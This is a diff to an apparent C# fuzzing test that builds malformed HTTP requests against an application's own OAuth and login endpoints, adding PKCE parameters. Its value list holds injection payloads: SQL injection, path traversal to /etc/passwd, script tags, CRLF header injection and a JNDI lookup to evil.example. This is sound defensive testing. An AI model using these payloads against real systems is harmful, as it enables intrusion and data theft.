@@ -30,7 +30,7 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
     private static readonly string[] Names =
     [
         "grant_type", "client_id", "client_secret", "client_assertion", "client_assertion_type", "refresh_token", "device_code", "user_code", "token", "token_type_hint",
-        "scope", "device_name", "code", "code_verifier", "code_challenge", "redirect_uri", "resource", "audience", "state", "nonce", "prompt", "request", "request_uri",
+        "scope", "device_name", "code", "code_verifier", "code_challenge", "code_challenge_method", "redirect_uri", "response_type", "response_mode", "max_age", "allow", "proved_since", "resource", "audience", "state", "nonce", "prompt", "request", "request_uri",
         "return", "returnUrl", "__RequestVerificationToken", "_handler", "Input.Email", "Input.Password", "Input.Name", "Input.Code", "Input.Token", "email", "password",
         "id", "view", "sort", "page", "skip", "from", "to", "q", "person", "app", "where", "device", "agent", "culture", "theme", "remoteError", Marker, "", "a[]", "a.b.c",
         "__proto__", "constructor", "\0", "%00", "%", "é",
@@ -38,7 +38,7 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
 
     private static readonly string[] Values =
     [
-        "", " ", "companion", "other", "refresh_token", "urn:ietf:params:oauth:grant-type:device_code", "authorization_code", "client_credentials", "password",
+        "", " ", "companion", "other", "refresh_token", "urn:ietf:params:oauth:grant-type:device_code", "authorization_code", "code", "S256", "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "http://127.0.0.1:1/callback", "none", "client_credentials", "password",
         "profile", "profile offline_access", "openid", "sign-in", "all", "open", "true", "0", "-1", "1", "2147483648", "9223372036854775808", "1e400", "NaN", "null", "[]", "{}",
         Marker, Marker + "<\"'>", "<script>" + Marker + "</script>", $"{Marker}\r\n{Injected}: 1", $"{Marker}%0d%0a{Injected}:%201", "é" + Marker, Marker + "\0", Marker + "%00",
         "../../../../etc/passwd", "..%2f..%2f", "' OR 1=1 --", "\"; DROP TABLE sessions; --", "{{7*7}}", "${jndi:ldap://evil.example}", "{0}{1}{999}", "%s%n%x", "%ff%fe", "%ED%A0%80",
@@ -67,7 +67,7 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
     {
         var random = new Random(number);
         var path = Fill(paths[random.Next(paths.Count)], random);
-        var isProtocol = path.StartsWith("/oauth/", StringComparison.Ordinal);
+        var isProtocol = IsProtocol(path);
         var method = random.Next(5) == 0 ? Of(Methods, random) : isProtocol || random.Next(2) == 0 ? "POST" : "GET";
         var text = new StringBuilder($"{method} {path}");
         if (random.Next(isProtocol ? 8 : 2) == 0)
@@ -86,6 +86,9 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
             changed = Change(changed, random);
         return new(path, changed, IsWhole: false);
     }
+
+    /// <summary>Whether programs are answered there, rather than people.</summary>
+    public static bool IsProtocol(string path) => path.StartsWith("/oauth/", StringComparison.Ordinal) && !path.StartsWith("/oauth/authorize", StringComparison.Ordinal);
 
     private static string Fill(string path, Random random)
     {
@@ -144,6 +147,12 @@ internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, 
             fields.Add(("grant_type", random.Next(2) == 0 ? "refresh_token" : "urn:ietf:params:oauth:grant-type:device_code"));
         if (random.Next(4) == 0)
             fields.Add((random.Next(2) == 0 ? "refresh_token" : "token", Change(token, random)));
+        if (random.Next(4) == 0)
+        {
+            fields.AddRange([("redirect_uri", "http://127.0.0.1:1/callback"), ("response_type", "code"), ("code_challenge_method", "S256"), ("code_challenge", "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM")]);
+            fields.RemoveAt(random.Next(fields.Count));
+        }
+
         // Now and then what should be escaped is not.
         return string.Join('&', fields.Select(f => random.Next(10) == 0 ? $"{f.Name}={f.Value}" : $"{Uri.EscapeDataString(f.Name)}={Uri.EscapeDataString(f.Value)}")).Replace("\r\n", "%0D%0A", StringComparison.Ordinal);
     }
